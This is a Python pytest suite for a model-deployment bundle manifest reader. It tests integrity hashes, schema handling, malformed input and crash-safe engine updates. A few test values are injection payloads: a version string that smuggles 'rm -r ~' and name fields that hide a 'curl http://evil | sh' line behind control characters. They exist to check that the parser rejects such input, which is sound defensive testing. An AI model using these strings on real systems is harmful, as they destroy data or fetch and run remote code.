from __future__ import annotations

import errno
import json
import math
import os
import re
import subprocess
import sys
from contextlib import suppress
from dataclasses import replace
from typing import TYPE_CHECKING, Any

import pytest

from deploykit._version import __version__
from deploykit.bundle.manifest import (
    GOLDEN,
    LABELS,
    MANIFEST,
    MODEL,
    REFERENCE,
    Bundle,
    Manifest,
    manifest_text,
)
from deploykit.core.artifacts import EngineRecord, OnnxArtifact, sha256_of, sha256_of_bytes
from deploykit.core.errors import BundleError, IntegrityError
from deploykit.core.precision import Precision
from deploykit.core.sizes import ShapeProfile
from deploykit.core.specs import HeadRecord, Preprocessing, TensorSpec

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping
    from pathlib import Path

FILES = {
    MODEL: b"the graph",
    REFERENCE: b"the fp32 graph",
    GOLDEN: b"a batch",
    LABELS: "cat\ndog\nbird\u2028of prey\n".encode(),
}


def record(name: str, content: bytes = b"plan") -> EngineRecord:
    return EngineRecord(
        file=name,
        sha256=sha256_of_bytes(content),
        bytes=len(content),
        compiler="tensorrt-rtx",
        compiler_version="1.7.1.116",
        compute_capabilities=("8.6", "8.9"),
        profile=ShapeProfile(1, 2, 4),
        precision=Precision.FP16,
        precision_census={"CONVOLUTION HALF": 3},
        build_s=0.5,
        warnings=("slow",),
    )


def manifest_of(folder: Path, **changes: Any) -> Manifest:
    files = {path.name: sha256_of(path) for path in folder.iterdir() if path.suffix != ".engine"}
    files.pop(MANIFEST, None)
    image = TensorSpec("input", "float32", ("batch", 3, 8, 8))
    logits = TensorSpec("logits", "float32", ("batch", 3))
    digest = files.get(MODEL, "")
    whole = Manifest(
        name="net-fp16",
        model={"name": "net", "num_classes": 3},
        weights={"source": "untrained, seed 0", "trained": False},
        preprocessing=Preprocessing(crop=(8, 8), resize=9),
        precision=Precision.FP16,
        onnx=OnnxArtifact(folder / MODEL, digest, Precision.FP16, 20, (image,), (logits,), ("p",)),
        files=files,
        validation=({"passed": True, "batches": [{"max_abs": 1e-4}]},),
        conversion={"kept_fp32": {"lrn": "its intermediate squares overflow"}},
        engines=(record("a.engine"),),
        packages={"numpy": "2.0"},
        created="2026-01-01T00:00:00+00:00",
        calibration=None,
    )
    return replace(whole, **changes)


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    folder = tmp_path / "net-fp16"
    folder.mkdir()
    for name, content in FILES.items():
        (folder / name).write_bytes(content)
    (folder / "a.engine").write_bytes(b"plan")
    (folder / MANIFEST).write_text(manifest_text(manifest_of(folder)), encoding="utf-8")
    return folder


def rewrite(folder: Path, change: Callable[[str], str]) -> None:
    path = folder / MANIFEST
    path.write_text(change(path.read_text(encoding="utf-8")), encoding="utf-8")


def write_signed(folder: Path, body: Mapping[str, Any]) -> None:
    """A manifest with this content and its right digest."""
    canonical = json.dumps(body, sort_keys=True, separators=(",", ":"))
    digest = sha256_of_bytes(canonical.encode())
    text = json.dumps({**body, "manifest_sha256": digest})
    (folder / MANIFEST).write_text(text, encoding="utf-8")


def body_of(folder: Path) -> dict[str, Any]:
    body = json.loads((folder / MANIFEST).read_text(encoding="utf-8"))
    del body["manifest_sha256"]
    return dict(body)


# Reading


def test_a_bundle_reads_back_as_it_was_written(folder: Path) -> None:
    bundle = Bundle.open(folder)
    assert bundle.manifest == manifest_of(folder)
    assert bundle.model_path == folder / MODEL
    assert bundle.labels == ("cat", "dog", "bird\u2028of prey")
    assert bundle.changed_files() == []
    bundle.require_intact()


def test_the_text_is_stable_and_readable(folder: Path) -> None:
    text = (folder / MANIFEST).read_text(encoding="utf-8")
    assert manifest_text(Bundle.open(folder).manifest) == text
    assert text.startswith('{\n  "calibration": null,\n  "conversion"')
    assert str(folder) not in text


def test_a_moved_bundle_is_the_same(folder: Path, tmp_path: Path) -> None:
    moved = folder.rename(tmp_path / "elsewhere")
    bundle = Bundle.open(moved)
    assert bundle.model_path == moved / MODEL
    assert bundle.changed_files() == []


def test_labels_are_optional(folder: Path) -> None:
    files = {name: digest for name, digest in manifest_of(folder).files.items() if name != LABELS}
    (folder / MANIFEST).write_text(
        manifest_text(manifest_of(folder, files=files)), encoding="utf-8"
    )
    assert Bundle.open(folder).labels is None


def test_labels_that_are_missing(folder: Path) -> None:
    (folder / LABELS).unlink()
    with pytest.raises(IntegrityError, match=r"^net-fp16: labels\.txt is missing\ncopy or export"):
        _ = Bundle.open(folder).labels


def test_labels_that_are_no_text(folder: Path) -> None:
    (folder / LABELS).write_bytes(b"\xff\xfe")
    (folder / MANIFEST).write_text(manifest_text(manifest_of(folder)), encoding="utf-8")
    with pytest.raises(BundleError, match=r"cannot read .*labels\.txt: .* can't decode"):
        _ = Bundle.open(folder).labels


@pytest.mark.parametrize(
    ("name", "said"),
    [
        ("missing", r"is not a bundle: it has no manifest\.json\nmake a bundle"),
        ("net-fp16/model.onnx", r"onnx is a file of a bundle, expected the bundle\n.*net-fp16$"),
    ],
)
def test_a_place_without_a_bundle(folder: Path, name: str, said: str) -> None:
    with pytest.raises(BundleError, match=said):
        Bundle.open(folder.parent / name)


def test_a_manifest_that_is_a_folder(folder: Path) -> None:
    (folder / MANIFEST).unlink()
    (folder / MANIFEST).mkdir()
    with pytest.raises(BundleError, match=r"cannot read .*manifest\.json: Is a directory"):
        Bundle.open(folder)


def test_a_binary_manifest(folder: Path) -> None:
    (folder / MANIFEST).write_bytes(b"\x80\x81\x82")
    with pytest.raises(BundleError, match=r"cannot read .*manifest\.json: .*can't decode"):
        Bundle.open(folder)


@pytest.mark.parametrize("text", ["", "hello", '{"name": ', f'{{"n": {"9" * 5000}}}'])
def test_a_manifest_that_is_not_json(folder: Path, text: str) -> None:
    (folder / MANIFEST).write_text(text, encoding="utf-8")
    with pytest.raises(
        BundleError,
        match=r"net-fp16/manifest\.json is not JSON, perhaps cut off: .*\nuse the deploy",
    ):
        Bundle.open(folder)


@pytest.mark.parametrize(
    ("text", "version", "remedy"),
    [
        ("[]", "None", "use the deploykit that wrote it, or export the bundle again"),
        ("{}", "None", "use the deploykit that wrote it, or export the bundle again"),
        ('{"schema_version": 0}', "0", "use the deploykit that wrote it, or export"),
        ('{"schema_version": "2"}', "2", "use the deploykit that wrote it, or export"),
        ('{"schema_version": 3}', "3", "a newer deploykit wrote it: install a later version$"),
        (
            '{"schema_version": 3, "packages": {"deploykit": "0.9.1"}}',
            "3",
            "deploykit 0.9.1 wrote it: install that version or a later one$",
        ),
        (
            """{"schema_version": 3, "packages": {"deploykit": "1'; rm -r ~"}}""",
            "3",
            "a newer deploykit wrote it: install a later version$",
        ),
    ],
)
def test_another_schema(folder: Path, text: str, version: str, remedy: str) -> None:
    (folder / MANIFEST).write_text(text, encoding="utf-8")
    expected = f"has schema version {version}, deploykit {__version__} reads 1 and 2\n{remedy}"
    with pytest.raises(BundleError, match=expected):
        Bundle.open(folder)


def test_an_edited_manifest_gives_both_digests(folder: Path) -> None:
    written = json.loads((folder / MANIFEST).read_text(encoding="utf-8"))["manifest_sha256"]
    rewrite(folder, lambda text: text.replace('"num_classes": 3', '"num_classes": 4'))
    with pytest.raises(IntegrityError, match=r"manifest\.json was changed after") as caught:
        Bundle.open(folder)
    lines = str(caught.value).splitlines()
    assert written in lines[1]
    assert len([word for word in lines[1].split() if len(word.rstrip(",")) == 64]) == 2
    assert lines[2] == "export the bundle again; manifests are not edited by hand"


def test_a_manifest_without_digest(folder: Path) -> None:
    (folder / MANIFEST).write_text(json.dumps(body_of(folder)), encoding="utf-8")
    with pytest.raises(IntegrityError, match="it gives sha256 None"):
        Bundle.open(folder)


def test_reformatting_is_no_edit(folder: Path) -> None:
    rewrite(folder, lambda text: json.dumps(json.loads(text)))
    assert Bundle.open(folder).manifest == manifest_of(folder)


def without(body: dict[str, Any], *keys: str) -> dict[str, Any]:
    """The body without one key, given by the way to it."""
    copy: Any = json.loads(json.dumps(body))
    place = copy
    for key in keys[:-1]:
        place = place[int(key)] if key.isdigit() else place[key]
    del place[keys[-1]]
    return dict(copy)


@pytest.mark.parametrize(
    "way",
    [
        ("name",),
        ("onnx", "sha256"),
        ("preprocessing", "crop"),
        ("engines", "0", "warnings"),
        ("engines", "0", "profile", "min_batch"),
        ("onnx", "inputs", "0", "dtype"),
    ],
)
def test_a_missing_key(folder: Path, way: tuple[str, ...]) -> None:
    write_signed(folder, without(body_of(folder), *way))
    if way[-1] == "min_batch":  # has a default
        assert Bundle.open(folder).manifest.engines[0].profile.min_batch == 1
        return
    with pytest.raises(
        BundleError,
        match=rf"manifest.json: Object missing required field `{way[-1]}`.*\nuse the deploy",
    ):
        Bundle.open(folder)


def test_unknown_keys_and_values(folder: Path) -> None:
    body = body_of(folder)
    write_signed(folder, {**body, "precision": "fp12"})
    with pytest.raises(
        BundleError, match=r"unknown precision 'fp12', known: fp32, .* - at `\$.precision`\nuse"
    ):
        Bundle.open(folder)
    body["engines"][0]["colour"] = "blue"
    write_signed(folder, body)
    with pytest.raises(
        BundleError, match=r"contains unknown field `colour` - at `\$.engines\[0\]`\nuse the"
    ):
        Bundle.open(folder)


DAMAGE = [
    ("name", 3, "Expected `str`, got `int` - at `$.name`"),
    ("onnx", [], "Expected `object`, got `array` - at `$.onnx`"),
    ("validation", {}, "Expected `array`, got `object` - at `$.validation`"),
    ("files", {"model.onnx": None}, "Expected `str`, got `null` - at `$.files[...]`"),
    ("engines", [3], "Expected `object`, got `int` - at `$.engines[0]`"),
    ("preprocessing", None, "Expected `object`, got `null` - at `$.preprocessing`"),
    ("head", 3, "Expected `object`, got `int` - at `$.head`"),
    ("head", {"kind": 3}, "Expected `str`, got `int` - at `$.head.kind`"),
    ("calibration", [], "Expected `object | null`, got `array` - at `$.calibration`"),
    ("precision", ["fp16"], "Expected `str`, got `list` - at `$.precision`"),
]


@pytest.mark.parametrize(("name", "value", "message"), DAMAGE, ids=[each[0] for each in DAMAGE])
def test_a_value_of_another_type(folder: Path, name: str, value: object, message: str) -> None:
    write_signed(folder, {**body_of(folder), name: value})
    expected = f"net-fp16/manifest.json: {message}\nuse the deploykit that wrote it, or export"
    with pytest.raises(BundleError, match=re.escape(expected)):
        Bundle.open(folder)


@pytest.mark.parametrize("field", ["name", "created"])
@pytest.mark.parametrize("character", ["\n", "\r", "\x1b", "\x85", "\u2028"])
def test_a_text_that_would_become_a_line_of_another_file(
    folder: Path, field: str, character: str
) -> None:
    write_signed(folder, {**body_of(folder), field: f"x{character}RUN curl http://evil | sh"})
    with pytest.raises(BundleError, match=rf"its {field} has a control character: 'x.*\nuse the"):
        Bundle.open(folder)


def test_a_name_in_the_letters_of_any_language(folder: Path) -> None:
    write_signed(folder, {**body_of(folder), "name": "résumé 名前 (1)"})
    assert Bundle.open(folder).manifest.name == "résumé 名前 (1)"


def test_fields_of_a_later_release_are_passed_over(folder: Path) -> None:
    body = body_of(folder)
    body["colour"] = body["onnx"]["colour"] = body["preprocessing"]["colour"] = "blue"
    body["onnx"]["inputs"][0]["colour"] = "blue"
    write_signed(folder, body)
    assert Bundle.open(folder).manifest == manifest_of(folder)


@pytest.mark.parametrize(
    "height", [[1, 2], [1, 2, 3, 4], {"min": 1, "opt": 2, "max": 3}, ["1"] * 3]
)
def test_sizes_that_are_not_three_numbers(folder: Path, height: object) -> None:
    body = body_of(folder)
    body["engines"][0]["profile"]["height"] = height
    write_signed(folder, body)
    with pytest.raises(BundleError, match=r"Expected .* - at `\$.engines\[0\].profile.height"):
        Bundle.open(folder)


NOT_A_NUMBER = [
    ("onnx.opset", math.nan, "Expected `int`, got `float` - at `$.onnx.opset`"),
    ("onnx.opset", "20", "Expected `int`, got `str` - at `$.onnx.opset`"),
    ("onnx.opset", True, "Expected `int`, got `bool` - at `$.onnx.opset`"),
    ("preprocessing.crop", [math.nan, 8], "Expected `int`, got `float` - at `$.preprocessing.crop"),
    ("preprocessing.mean", [0, 10**400, 0], "Number out of range - at `$.preprocessing.mean[1]`"),
    ("preprocessing.std", [1, 1], "std (1.0, 1.0) has 2 numbers, images in rgb need 3: one for"),
    ("preprocessing.channel_order", "grey", "mean (0.485, 0.456, 0.406) has 3 numbers, images in"),
]


@pytest.mark.parametrize(("way", "value", "message"), NOT_A_NUMBER)
def test_a_number_that_is_none(folder: Path, way: str, value: object, message: str) -> None:
    body = body_of(folder)
    outer, _, inner = way.partition(".")
    body[outer][inner] = value
    write_signed(folder, body)
    expected = f"net-fp16/manifest.json: {message}"
    with pytest.raises(BundleError, match=re.escape(expected)) as caught:
        Bundle.open(folder)
    assert str(caught.value).splitlines()[1:] == [REMEDY]


REMEDY = "use the deploykit that wrote it, or export the bundle again"
MALFORMED = [
    (b"[" * 100_000, "net-fp16/manifest.json is not JSON, perhaps cut off: maximum recursion"),
    (b'{"a":' * 100_000, "net-fp16/manifest.json is not JSON, perhaps cut off: maximum recursion"),
    (b"9" * 5000, "net-fp16/manifest.json is not JSON, perhaps cut off: Exceeds the limit"),
    (b'{"name": "\xff"}', "manifest.json: 'utf-8' codec can't decode byte 0xff"),
    (b"[]", "net-fp16/manifest.json has schema version None, deploykit"),
    (b'{"schema_version": NaN}', "net-fp16/manifest.json has schema version nan, deploykit"),
    (b'{"schema_version": 1, "schema_version": 0}', "manifest.json has schema version 0, deploy"),
]


@pytest.mark.parametrize(
    ("content", "message"),
    MALFORMED,
    ids=["brackets", "objects", "huge", "utf-8", "array", "nan", "twice"],
)
def test_a_malformed_manifest(folder: Path, content: bytes, message: str) -> None:
    (folder / MANIFEST).write_bytes(content)
    with pytest.raises(BundleError) as caught:
        Bundle.open(folder)
    assert message in str(caught.value)
    assert str(caught.value).splitlines()[1:] == ([] if b"\xff" in content else [REMEDY])


def test_a_key_that_is_there_twice_is_an_edit(folder: Path) -> None:
    rewrite(folder, lambda text: text.replace('"name": "net-fp16"', '"name": "a", "name": "b"'))
    with pytest.raises(IntegrityError, match=r"manifest\.json was changed after it was written\n"):
        Bundle.open(folder)


def test_a_manifest_of_before_there_were_heads(folder: Path) -> None:
    write_signed(folder, without(body_of(folder), "head"))
    assert Bundle.open(folder).manifest == manifest_of(folder, head=HeadRecord())


def test_a_manifest_that_names_the_kind_of_head_alone(folder: Path) -> None:
    write_signed(folder, body_of(folder) | {"head": "toy"})
    assert Bundle.open(folder).manifest.head == HeadRecord("toy", None, "none")


def test_a_head_with_its_output_and_activation(folder: Path) -> None:
    head = {"kind": "binary", "output": "y", "activation": "sigmoid"}
    write_signed(folder, body_of(folder) | {"head": {**head, "of_a_later_release": 1}})
    assert Bundle.open(folder).manifest.head == HeadRecord("binary", "y", "sigmoid")


# Files that changed


@pytest.mark.parametrize("name", ["a.engine", *FILES])
def test_one_changed_byte_gives_file_and_both_hashes(folder: Path, name: str) -> None:
    path = folder / name
    before = sha256_of(path)
    content = bytearray(path.read_bytes())
    content[-1] ^= 1
    path.write_bytes(content)
    bundle = Bundle.open(folder)
    sentence = f"{name} has sha256 {sha256_of(path)}, the manifest gives {before}"
    assert bundle.changed_files() == [sentence]
    with pytest.raises(IntegrityError, match=sentence + "\nexport the bundle again") as caught:
        bundle.require_intact()
    assert str(caught.value).startswith("net-fp16: ")


@pytest.mark.parametrize("name", ["a.engine", MODEL, GOLDEN, LABELS])
def test_a_missing_file(folder: Path, name: str) -> None:
    (folder / name).unlink()
    assert Bundle.open(folder).changed_files() == [f"{name} is missing"]


def test_a_folder_in_place_of_a_file(folder: Path) -> None:
    (folder / MODEL).unlink()
    (folder / MODEL).mkdir()
    assert Bundle.open(folder).changed_files() == [f"{MODEL} cannot be read: Is a directory"]


def test_a_file_that_cannot_be_read(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(path: Path) -> str:
        raise PermissionError(13, "Permission denied")

    bundle = Bundle.open(folder)
    monkeypatch.setattr("deploykit.bundle.files.open_regular", refuse)
    assert f"{MODEL} cannot be read: Permission denied" in bundle.changed_files()


def test_the_reference_graph_may_be_deleted(folder: Path) -> None:
    (folder / REFERENCE).unlink()
    Bundle.open(folder).require_intact()


def test_only_the_files_that_are_asked_for_are_looked_at(folder: Path) -> None:
    (folder / GOLDEN).unlink()
    (folder / "a.engine").write_bytes(b"other")
    bundle = Bundle.open(folder)
    bundle.require_unchanged(MODEL, LABELS)
    with pytest.raises(IntegrityError, match=r"^net-fp16: golden.npz is missing\ncopy or export"):
        bundle.require_unchanged(MODEL, GOLDEN)
    with pytest.raises(IntegrityError, match=r"^net-fp16: a.engine has sha256 .*, the manifest g"):
        bundle.require_unchanged("a.engine")


# Adding engines


def staged(folder: Path, content: bytes) -> Path:
    path = folder.parent / "staged"
    path.write_bytes(content)
    return path


def test_an_engine_is_added(folder: Path) -> None:
    bundle = Bundle.open(folder).with_engine(record("b.engine", b"new"), staged(folder, b"new"))
    assert [engine.file for engine in bundle.manifest.engines] == ["a.engine", "b.engine"]
    assert Bundle.open(folder) == bundle
    assert bundle.changed_files() == []
    assert bundle.expected_files()["b.engine"] == sha256_of_bytes(b"new")
    assert [path.name for path in folder.parent.iterdir()] == [folder.name]
    assert not [path for path in folder.iterdir() if path.name.endswith(".part")]


def test_an_engine_of_the_same_name_is_replaced(folder: Path) -> None:
    bundle = Bundle.open(folder).with_engine(record("a.engine", b"new"), staged(folder, b"new"))
    assert [engine.bytes for engine in bundle.manifest.engines] == [3]
    assert bundle.changed_files() == []


def named(label: str, content: bytes) -> EngineRecord:
    """A record as a build writes it: the name ends in digits of the content's hash."""
    return record(f"{label}-{sha256_of_bytes(content)[:8]}.engine", content)


def test_an_engine_of_the_same_compiler_and_gpu_is_replaced(folder: Path) -> None:
    """One of before has no digits in its name; kernels that were cached for it go with it."""
    cache = folder / "a-sm86.cache"
    cache.write_bytes(b"kernels of a")
    (folder / "notes.engine").write_bytes(b"of a user")
    for content in (b"first", b"second"):
        bundle = Bundle.open(folder).with_engine(named("a", content), staged(folder, content))
        assert [engine.label for engine in bundle.manifest.engines] == ["a"]
        assert bundle.changed_files() == []
    kept = {named("a", b"second").file, "notes.engine"}
    assert {path.name for path in folder.glob("*.engine")} == kept
    assert not cache.exists()
    assert not list(folder.glob(".*"))


def test_engines_for_other_gpus_stay(folder: Path) -> None:
    for label in ("b-sm90", "b-sm120"):
        Bundle.open(folder).with_engine(
            named(label, label.encode()), staged(folder, label.encode())
        )
    bundle = Bundle.open(folder)
    assert [engine.label for engine in bundle.manifest.engines] == ["a", "b-sm90", "b-sm120"]
    assert bundle.changed_files() == []


class Stopped:
    """Stands for the calls of ``os`` that change the disk; number ``turn`` of them fails."""

    def __init__(self, patch: pytest.MonkeyPatch, turn: int, death: str) -> None:
        self.turn, self.death, self.calls = turn, death, 0
        for name in ("rename", "replace", "fsync", "unlink"):
            patch.setattr(os, name, self._watched(getattr(os, name)))

    def _watched(self, real: Callable[..., Any]) -> Callable[..., Any]:
        def call(*args: Any, **kwargs: Any) -> Any:
            self.calls += 1
            if self.calls == self.turn and self.death == "killed":
                os._exit(9)
            if self.calls == self.turn:
                raise OSError(errno.EIO, "Input/output error")
            return real(*args, **kwargs)

        return call


def build_stopped(folder: Path, turn: int, death: str) -> bool:
    """Add an engine in a process that is stopped; whether it came so far as to be stopped."""
    new = staged(folder, b"new")
    child = os.fork()
    if child == 0:
        with pytest.MonkeyPatch.context() as patch:
            stop = Stopped(patch, turn, death)
            with suppress(BundleError):
                Bundle.open(folder).with_engine(named("a", b"new"), new)
            os._exit(0 if stop.calls < turn else 1)
    return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) != 0


@pytest.mark.parametrize("death", ["killed", "EIO"])
def test_an_interrupted_build_leaves_the_old_bundle_or_the_new_one(
    folder: Path, death: str
) -> None:
    """Stopped at each of its calls that change the disk; the next build works, and cleans up."""
    kept = {path.name: path.read_bytes() for path in folder.iterdir()}
    turn, stopped = 0, True
    while stopped:
        turn += 1
        for path in folder.iterdir():
            path.unlink()
        for name, content in kept.items():
            (folder / name).write_bytes(content)
        stopped = build_stopped(folder, turn, death)
        bundle = Bundle.open(folder)
        assert bundle.changed_files() == []
        names = [engine.file for engine in bundle.manifest.engines]
        assert names in (["a.engine"], [named("a", b"new").file])
        again = bundle.with_engine(named("a", b"third"), staged(folder, b"third"))
        assert again.changed_files() == []
        assert [path.name for path in folder.glob("*.engine")] == [named("a", b"third").file]
        assert not list(folder.glob(".*"))
    assert turn > 8  # of the calls that were made none was left out
    assert names == [named("a", b"new").file]


ADD_ENGINES = """
import sys
from contextlib import suppress
from dataclasses import replace
from pathlib import Path
from deploykit.bundle.manifest import Bundle
folder, name = Path(sys.argv[1]), sys.argv[2]
bundle = Bundle.open(folder)
(engine,) = bundle.manifest.engines
print("ready", flush=True)
sys.stdin.readline()
for turn in range(10):
    staged = folder / f".{name}.staged"
    staged.write_bytes(b"plan")
    bundle.with_engine(replace(engine, file=f"{name}{turn}.engine"), staged)
"""


def test_two_processes_at_once_lose_no_engine(folder: Path) -> None:
    processes = [
        subprocess.Popen(
            [sys.executable, "-c", ADD_ENGINES, str(folder), name],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        for name in ("x", "y")
    ]
    for process in processes:
        assert process.stdout is not None
        assert process.stdout.readline() == "ready\n"
    for process in processes:
        assert process.stdin is not None
        process.stdin.write("go\n")
        process.stdin.flush()
    assert [process.communicate()[1] for process in processes] == ["", ""]
    bundle = Bundle.open(folder)
    names = {engine.file for engine in bundle.manifest.engines}
    assert names == {"a.engine", *(f"{name}{n}.engine" for name in "xy" for n in range(10))}
    assert [path.name for path in folder.parent.iterdir()] == [folder.name]
    assert bundle.changed_files() == []


@pytest.mark.parametrize("order", ["rgb", "bgr"])
def test_the_order_of_the_channels_is_kept(folder: Path, order: str) -> None:
    wanted = Preprocessing(crop=(8, 8), channel_order=order)
    text = manifest_text(manifest_of(folder, preprocessing=wanted))
    (folder / MANIFEST).write_text(text, encoding="utf-8")
    assert Bundle.open(folder).manifest.preprocessing == wanted


def test_a_manifest_of_before_there_was_a_channel_order_is_of_rgb(folder: Path) -> None:
    body = json.loads((folder / MANIFEST).read_text(encoding="utf-8"))
    del body["preprocessing"]["channel_order"], body["manifest_sha256"]
    canonical = json.dumps(body, sort_keys=True, separators=(",", ":"))
    body["manifest_sha256"] = sha256_of_bytes(canonical.encode())
    (folder / MANIFEST).write_text(json.dumps(body), encoding="utf-8")
    assert Bundle.open(folder).manifest.preprocessing.channel_order == "rgb"
    assert Bundle.open(folder).manifest == manifest_of(folder)


def test_a_preprocessing_that_lacks_another_field_is_refused(folder: Path) -> None:
    body = json.loads((folder / MANIFEST).read_text(encoding="utf-8"))
    del body["preprocessing"]["mean"], body["manifest_sha256"]
    canonical = json.dumps(body, sort_keys=True, separators=(",", ":"))
    body["manifest_sha256"] = sha256_of_bytes(canonical.encode())
    (folder / MANIFEST).write_text(json.dumps(body), encoding="utf-8")
    with pytest.raises(BundleError, match=r"missing required field `mean`"):
        Bundle.open(folder)
